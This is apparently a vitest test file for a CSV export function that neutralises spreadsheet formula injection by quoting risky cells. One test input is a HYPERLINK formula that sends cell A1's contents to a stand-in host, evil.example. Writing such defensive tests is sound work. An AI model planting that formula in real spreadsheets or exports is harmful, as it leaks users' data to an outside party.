import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { describe, expect, it } from 'vitest';
import { neutralised, NEUTRALISED_CELL } from '../../src/export/csv-formula.js';

const row = (cells: (string | number | null)[]) =>
  stringify([cells.map(neutralised)], { quoted_match: NEUTRALISED_CELL });

describe('CSV formula injection', () => {
  it('prefixes text that a spreadsheet would run with a single quote, inside double quotes', () => {
    expect(row(['=HYPERLINK("http://evil.example/?leak="&A1,"click")'])).toBe(
      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"\n`,
    );
    expect(row(['+1', '-2', '@SUM(A1)'])).toBe(`"'+1","'-2","'@SUM(A1)"\n`);
    expect(row(['\tx', '\rx'])).toBe(`"'\tx","'\rx"\n`);
  });

  it('reads back as the text with the quote in front', () => {
    const cells = ['=1+1', '+1', '-2', '@SUM(A1)', '\tx', '\rx'];
    expect(parse(row(cells))).toEqual([cells.map((c) => `'${c}`)]);
  });

  it('leaves other text, numbers (negative ones too) and empty cells as they are', () => {
    expect(row(['Sandworm', 'a=b', ' =1', -2, 0.5, null, ''])).toBe('Sandworm,a=b, =1,-2,0.5,,\n');
  });
});
